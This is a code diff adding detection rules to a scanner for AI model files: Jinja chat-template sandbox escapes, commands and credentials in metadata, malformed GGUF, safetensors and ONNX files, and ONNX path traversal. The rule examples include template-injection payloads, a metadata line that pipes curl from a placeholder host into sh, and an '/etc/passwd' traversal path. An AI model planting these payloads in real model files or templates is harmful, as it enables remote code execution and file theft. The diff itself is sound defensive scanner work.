@@ -64,7 +64,8 @@ SCAN_FORMAT_NOT_ANALYSED = register_rule(
         severity=Severity.LOW,
         title="Format recognised but not analysed",
         what="Reports content of a format that modelshield recognises but does not analyse yet "
-        "(GGUF, safetensors, ONNX). The file is marked as not fully analysed.",
+        "(every recognised format has a reader today; the rule stays for formats added to "
+        "the format table before their reader). The file is marked as not fully analysed.",
         why="A scanner that passes what it did not read gives a clean verdict on something it "
         "never checked. GGUF files carry chat templates that servers render; until a reader "
         "for the format lands, the run fails closed (exit code 2) unless the policy accepts "
@@ -637,5 +638,378 @@ HDF5_NOT_ANALYSED = register_rule(
         example="An `.h5` with 40,000 attributes on one group, or a corrupted object header.",
         references=("CWE-20",),
         incomplete=True,
+    )
+)
+
+
+# ---- Jinja templates (chat templates in GGUF, tokenizer configs and template files) -------
+
+_TEMPLATE_REFS = (
+    "CVE-2024-34359",
+    "CVE-2026-5760",
+    "GHSA-56xg-wfcc-g829",
+    "CWE-1336",
+    "https://jinja.palletsprojects.com/en/stable/sandbox/",
+)
+
+
+_NOT_RENDERED = (
+    " A template stored where no known loader renders one (any key other than `chat_template` "
+    "in a JSON document, a GGUF key outside `tokenizer.chat_template*`) is reported at medium at "
+    "most: it runs only if some tool renders it."
+)
+
+
+TEMPLATE_SANDBOX_ESCAPE = register_rule(
+    Rule(
+        id="TEMPLATE-SANDBOX-ESCAPE",
+        pillar="scan",
+        severity=Severity.CRITICAL,
+        title="Jinja template reaches Python internals",
+        what="Parses a Jinja template (a GGUF `tokenizer.chat_template`, a `chat_template` in "
+        "`tokenizer_config.json` or `chat_template.json`, a `.jinja` file) with Jinja2's own "
+        "parser, never rendering it, and reports expressions that reach for attributes or items "
+        "that lead out of a sandbox: dunder names (`__class__`, `__mro__`, `__subclasses__`, "
+        "`__globals__`, `__builtins__`, `__init__`...), private (`_module`) and interpreter "
+        "internals (`func_globals`, `f_globals`, `gi_frame`, `mro`), whether written directly, "
+        "with `|attr`, as a subscript, through `map(attribute=...)`, inside a `str.format` "
+        "field, or built from pieces (`~`, `+`, `|join`, `|format`, `chr`, escapes). The "
+        "evidence is the offending expression and its line." + _NOT_RENDERED,
+        why="Servers render chat templates to build prompts. llama-cpp-python before 0.2.72 "
+        "rendered GGUF templates with an unsandboxed Jinja2 environment, so a model file ran "
+        "any Python it wanted when a chat started (CVE-2024-34359); vLLM and SGLang repeated "
+        "the root cause (CVE-2026-5760). Jinja's sandbox refuses exactly these names, and no "
+        "real chat template uses them.",
+        example="{% for c in [].__class__.__base__.__subclasses__() %}...{% endfor %}",
+        references=_TEMPLATE_REFS,
+    )
+)
+
+
+TEMPLATE_DANGEROUS_NAME = register_rule(
+    Rule(
+        id="TEMPLATE-DANGEROUS-NAME",
+        pillar="scan",
+        severity=Severity.HIGH,
+        title="Jinja template names operating-system, import or evaluation functions",
+        what="Reports a Jinja template that uses names no prompt needs: `os`, `subprocess`, "
+        "`sys`, `__import__`, `eval`, `exec`, `getattr`, `open` and the like as variables, "
+        "attributes such as `popen`, `system`, `check_output`, `environ` or `import_module`, "
+        "`chr` and `ord`, Jinja's own globals used other than by calling them (`cycler.x`, "
+        "`joiner.x`, `lipsum|string`, `namespace.x`), string constants naming Python "
+        "internals, or `{% include %}`, `{% import %}` and `{% extends %}`, which make the "
+        "renderer load other files." + _NOT_RENDERED,
+        why="These names are the second half of a template-injection payload (the object "
+        "reached through internals is then used to run a command), or a probe for what the "
+        "renderer exposes. Chat templates only format messages.",
+        example="{{ os.popen('id').read() }}",
+        references=_TEMPLATE_REFS,
+    )
+)
+
+
+TEMPLATE_OBFUSCATED_ACCESS = register_rule(
+    Rule(
+        id="TEMPLATE-OBFUSCATED-ACCESS",
+        pillar="scan",
+        severity=Severity.HIGH,
+        title="Jinja template computes the names of the attributes it reads",
+        what="Reports attribute reads whose name is computed at render time (`x|attr(name)` "
+        "with a non-constant name, `map(attribute=expr)`); subscripts whose key is built from "
+        "pieces (`~`, `+`, `|join`, `|format`, `|replace`, `|reverse`, `chr(...)`) that hold "
+        "underscores or fragments of internal names, or is a variable or namespace attribute "
+        "assembled from such pieces (in a loop too); strings built from pieces that spell an "
+        "internal name; `'%c'|format` of computed character codes; and `str.format` called on "
+        "a string computed at render time (its fields read attributes)." + _NOT_RENDERED,
+        why="Building a name from pieces is how payloads hide `__globals__` from text "
+        "searches; chat templates index messages with plain keys.",
+        example="{{ ''|attr('_' ~ '_cla' ~ 'ss_' ~ '_') }}",
+        references=_TEMPLATE_REFS,
+    )
+)
+
+
+TEMPLATE_UNPARSEABLE = register_rule(
+    Rule(
+        id="TEMPLATE-UNPARSEABLE",
+        pillar="scan",
+        severity=Severity.LOW,
+        title="Chat template that Jinja2 cannot parse",
+        what="Reports a chat template (under a `chat_template` key or a GGUF "
+        "`tokenizer.chat_template*` key) that Jinja2's parser rejects. Its text is still "
+        "searched for sandbox-escape names; the finding is medium when it holds some. Text "
+        "files that merely contain `{{` are not reported when they do not parse.",
+        why="Jinja2-based renderers refuse it, so it does not run there; but other renderers "
+        "(C++ and Rust Jinja dialects) accept other syntax, and a broken template in a model "
+        "repository is worth a look.",
+        example='"chat_template": "{{ unclosed"',
+        references=_TEMPLATE_REFS,
+    )
+)
+
+
+# ---- metadata strings (safetensors, GGUF, ONNX, JSON documents) ---------------------------
+
+METADATA_CODE = register_rule(
+    Rule(
+        id="METADATA-CODE",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="Metadata string holds code or a shell command",
+        what="Reports a string in model metadata (safetensors `__metadata__`, GGUF key/values, "
+        "ONNX `metadata_props` and doc strings, values in JSON documents) that reads as a "
+        "command or code: Python that imports or calls process, import or evaluation "
+        "functions (`import os`, `os.system(`, `subprocess.`, `exec(`, `eval(`, "
+        "`__import__(`), shell command lines (`rm -rf`, `curl`/`wget` of a URL, a pipe into "
+        "`sh`, `chmod 777`, `nc -e`) or an HTML `<script>`.",
+        why="No loader of these formats executes metadata, so this is not code execution by "
+        "itself; but weights metadata has no use for commands. It is a staged payload for a "
+        "pipeline that evaluates metadata, instructions aimed at a person, or markup injected "
+        "into a model hub's pages. Medium: it fails the default policy so that someone reads "
+        "it.",
+        example='{"__metadata__": {"init": "import os; os.system(\'curl http://x | sh\')"}}',
+        references=("CWE-94", "CWE-79"),
+    )
+)
+
+
+METADATA_CREDENTIAL = register_rule(
+    Rule(
+        id="METADATA-CREDENTIAL",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="Metadata or configuration holds a credential",
+        what="Reports a string that has the shape of a provider credential (OpenAI `sk-`, "
+        "Hugging Face `hf_`, GitHub `ghp_`, AWS `AKIA`, Slack `xox?-`, Google `AIza`, a PEM "
+        "private key), or a value of a secret-named key (`api_key`, `secret`, `password`, "
+        "`access_token`, `*_key`...) that is neither empty nor a placeholder nor a hex digest. "
+        "The evidence shows only the first characters.",
+        why="A credential shipped with a model is leaked to everyone who downloads it, and a "
+        "key placed beside an endpoint in a config is how exfiltration setups are wired.",
+        example='{"config": {"api_key": "sk-..."}}',
+        references=("CWE-798", "CWE-312"),
+    )
+)
+
+
+# ---- safetensors ---------------------------------------------------------------------------
+
+_SAFETENSORS_REFS = ("https://github.com/huggingface/safetensors#format",)
+
+
+SAFETENSORS_HEADER_INVALID = register_rule(
+    Rule(
+        id="SAFETENSORS-HEADER-INVALID",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="safetensors header cannot be parsed",
+        what="Reports a safetensors file whose header the reference loader refuses: a declared "
+        "length beyond the file or above 100,000,000 bytes, text that is not UTF-8 JSON, a "
+        "JSON value that is not an object, duplicate keys, `NaN` or other non-JSON constants, "
+        "an entry that is not `{dtype, shape, data_offsets}`, an unknown dtype, or a "
+        "`__metadata__` that is not a map of strings to strings.",
+        why="Loaders and scanners that recover from a broken header in different ways see "
+        "different tensors; and a file that does not load as safetensors may be meant for "
+        "another loader.",
+        example="A header length of 2**63 in a 1 KB file.",
+        references=_SAFETENSORS_REFS,
+    )
+)
+
+
+SAFETENSORS_LAYOUT_INVALID = register_rule(
+    Rule(
+        id="SAFETENSORS-LAYOUT-INVALID",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="safetensors tensors do not tile the data buffer",
+        what="Reports tensor entries whose `data_offsets` fall outside the data buffer, whose "
+        "byte length disagrees with dtype and shape, or that overlap, leave gaps or leave "
+        "bytes after the last tensor. Hidden bytes (gaps, trailing data) are analysed by "
+        "content.",
+        why="The reference loader refuses such files. Overlaps make two tensors alias one "
+        "another; gaps and trailing bytes are room for a payload that a polyglot-aware loader "
+        "reads.",
+        example='{"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 1048576]}} over 16 '
+        "bytes of data.",
+        references=_SAFETENSORS_REFS,
+    )
+)
+
+
+SAFETENSORS_LARGE_METADATA = register_rule(
+    Rule(
+        id="SAFETENSORS-LARGE-METADATA",
+        pillar="scan",
+        severity=Severity.LOW,
+        title="safetensors `__metadata__` is unusually large",
+        what="Reports a `__metadata__` map whose keys and values add up to more than 1 MiB.",
+        why="Metadata holds a few descriptive strings; megabytes of it are room for an "
+        "encoded payload or a resource attack on tools that display it. Its strings are all "
+        "analysed.",
+        example='{"__metadata__": {"blob": "<5 MB of base64>"}}',
+        references=_SAFETENSORS_REFS,
+    )
+)
+
+
+# ---- GGUF ----------------------------------------------------------------------------------
+
+_GGUF_REFS = ("https://github.com/ggml-org/ggml/blob/master/docs/gguf.md",)
+
+
+GGUF_MALFORMED = register_rule(
+    Rule(
+        id="GGUF-MALFORMED",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="GGUF header or metadata is structurally broken",
+        what="Reports a GGUF file whose header or key/value section cannot be read: counts or "
+        "lengths that the file cannot hold (checked before anything is allocated), unknown "
+        "value types, duplicate keys, keys that are not UTF-8. Parsing stops there; what "
+        "follows was not analysed.",
+        why="llama.cpp refuses such files; parsers that allocate what a header declares are "
+        "exhausted by a count of 2**63, and a scanner that stops early must not call the rest "
+        "clean.",
+        example="A tensor count of 2**63 in a 100-byte file.",
+        references=(*_GGUF_REFS, "CVE-2024-21836", "CVE-2024-23496", "CVE-2024-23605", "CWE-789"),
+        incomplete=True,
+    )
+)
+
+
+GGUF_TENSOR_INVALID = register_rule(
+    Rule(
+        id="GGUF-TENSOR-INVALID",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="GGUF tensor table is inconsistent with the file",
+        what="Reports tensor entries with more than 4 dimensions, empty or overflowing shapes, "
+        "offsets that are misaligned, overlap, or reach past the end of the file, and "
+        "duplicate tensor names.",
+        why="llama.cpp refuses these files or, in older versions, read out of bounds "
+        "(CVE-2024-21802 and its siblings, heap overflows in GGUF parsing); tensors that "
+        "alias each other or point outside the data are no honest export.",
+        example="A tensor whose offset is 2**40 in a 1 MB file.",
+        references=(*_GGUF_REFS, "CVE-2024-21802", "CWE-125"),
+    )
+)
+
+
+# ---- ONNX ----------------------------------------------------------------------------------
+
+_ONNX_REFS = ("https://onnx.ai/onnx/repo-docs/IR.html",)
+
+
+ONNX_EXTERNAL_DATA_PATH = register_rule(
+    Rule(
+        id="ONNX-EXTERNAL-DATA-PATH",
+        pillar="scan",
+        severity=Severity.HIGH,
+        title="ONNX external data location escapes the model folder",
+        what="Reports a tensor whose external data `location` is absolute, starts with a "
+        "drive letter or a UNC prefix, holds a NUL byte or a URL scheme, starts with `~`, or "
+        "climbs out of the model folder with `..`; and, for a model file on disk, a location "
+        "that is a symbolic link resolving outside the model's folder (the link is looked up, "
+        "never followed for reading).",
+        why="ONNX runtimes read external tensor data from the path the model names: a model "
+        "that points at `/etc/passwd` or `../../.ssh/id_rsa` reads that file into a tensor, "
+        "where a served model's outputs can leak it (path traversal in external data: "
+        "CVE-2022-25882, CVE-2024-27318).",
+        example="external_data { key: 'location' value: '../../../../etc/passwd' }",
+        references=("CVE-2022-25882", "CVE-2024-27318", "CWE-22", *_ONNX_REFS),
+    )
+)
+
+
+ONNX_CUSTOM_OPERATOR = register_rule(
+    Rule(
+        id="ONNX-CUSTOM-OPERATOR",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="ONNX node uses an operator from a custom domain",
+        what="Reports nodes whose domain is neither the ONNX standard domains (`ai.onnx`, "
+        "`ai.onnx.ml`, training domains) nor ONNX Runtime's own contrib domains "
+        "(`com.microsoft*`), nor a function defined in the model (whose body is analysed).",
+        why="A custom operator runs native code from a library the user registers with the "
+        "runtime: the model decides which library's code runs and with what inputs. Models "
+        "from untrusted sources should not need it.",
+        example="node { op_type: 'Exec' domain: 'com.evil' }",
+        references=("https://onnxruntime.ai/docs/reference/operators/add-custom-op.html",),
+    )
+)
+
+
+ONNX_PYTHON_OPERATOR = register_rule(
+    Rule(
+        id="ONNX-PYTHON-OPERATOR",
+        pillar="scan",
+        severity=Severity.HIGH,
+        title="ONNX node calls back into Python",
+        what="Reports nodes whose operator exists to call a Python function "
+        "(`PythonOp`, `PythonOpGrad`, `PyOp`, `PyFunc`, in any domain but the standard "
+        "ones), with the function name the node carries.",
+        why="Such an operator runs Python that the host resolves by a name written in the "
+        "model (ONNX Runtime training's `PythonOp`, onnxruntime-extensions' Python ops): what "
+        "executes is decided by the file.",
+        example="node { op_type: 'PythonOp' domain: 'com.microsoft' attribute { name: "
+        "'func_name' s: 'os.system' } }",
+        references=("CWE-94", *_ONNX_REFS),
+    )
+)
+
+
+ONNX_MALFORMED = register_rule(
+    Rule(
+        id="ONNX-MALFORMED",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="ONNX protobuf is structurally broken",
+        what="Reports an ONNX model whose protobuf encoding cannot be read: a varint longer "
+        "than 10 bytes, a length that runs past its enclosing message, an invalid wire type "
+        "or field number. Parsing of that message stops; what follows was not analysed.",
+        why="Runtimes refuse such files, and a parser that trusts declared lengths allocates "
+        "what the file claims.",
+        example="A length-delimited field claiming 2**62 bytes.",
+        references=("https://protobuf.dev/programming-guides/encoding/", *_ONNX_REFS),
+        incomplete=True,
+    )
+)
+
+
+ONNX_TENSOR_INVALID = register_rule(
+    Rule(
+        id="ONNX-TENSOR-INVALID",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="ONNX tensor is malformed or oversized",
+        what="Reports tensors (initializers, attribute and sparse tensors) with an undefined "
+        "data type, negative dimensions, an element count beyond 2**63, raw data whose length "
+        "disagrees with dtype and shape, external data without a location or with a "
+        "non-numeric offset or length, or a declared size larger than the file with no "
+        "external data to hold it.",
+        why="Runtimes that trust declared shapes allocate what the file claims (resource "
+        "exhaustion) or read out of bounds; honest exports never write such tensors.",
+        example="dims: [1099511627776, 1099511627776] with 4 bytes of raw data.",
+        references=("CWE-789", *_ONNX_REFS),
+    )
+)
+
+
+METADATA_EMBEDDED_PICKLE = register_rule(
+    Rule(
+        id="METADATA-EMBEDDED-PICKLE",
+        pillar="scan",
+        severity=Severity.HIGH,
+        title="Pickle hidden in a metadata string",
+        what="Reports a metadata string (or bytes) that is a pickle, or base64 or hex text of "
+        "one. The pickle is analysed too, and its findings carry their own location; this "
+        "finding is high when it imports or calls anything not on the safe list, and "
+        "informational otherwise.",
+        why="No loader of these formats unpickles metadata, so the pickle is a staged payload "
+        "for a second step (a training script or plugin that loads it), hidden where pickle "
+        "scanners do not look.",
+        example='{"__metadata__": {"state": "gASV..."}} (base64 of a pickle calling os.system)',
+        references=("CWE-502",),
     )
 )
